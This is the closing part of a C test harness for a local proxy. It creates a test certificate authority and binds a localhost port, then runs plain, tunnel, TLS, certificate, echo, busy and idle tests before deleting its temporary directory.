	snprintf(path, sizeof(path), "%s/rec", tmpdir);
	if (trap_log_open(&trap.log, path, 1000, 1 << 24, err, sizeof(err)) < 0)
		return 1;
	trap.tls = trap_tls_new(err, sizeof(err));
	ok(trap.tls != NULL, "CA made (%s)", trap.tls ? "" : err);
	snprintf(path, sizeof(path), "%s/sys.pem", tmpdir);
	f = fopen(path, "w");
	fputs("SYSTEM CA", f);
	fclose(f);
	snprintf(ca_path, sizeof(ca_path), "%s/ca", tmpdir);
	is_int(trap_tls_write(trap.tls, ca_path, path, err, sizeof(err)), 0,
	    "CA files written");
	snprintf(ca_path, sizeof(ca_path), "%s/ca/ca.pem", tmpdir);
	lfd = trap_bind("127.0.0.1:0", SOCK_STREAM, &port, err, sizeof(err));
	ok(lfd >= 0, "proxy port bound");
	pthread_create(&tid, NULL, serve_main, &lfd);
	pthread_detach(tid);

	test_plain();
	test_tunnel();
	test_tls();
	test_certs();
	test_echo();
	test_busy();
	test_idle();
	nftw(tmpdir, rm_one, 16, FTW_DEPTH | FTW_PHYS);
	return tap_done();
}
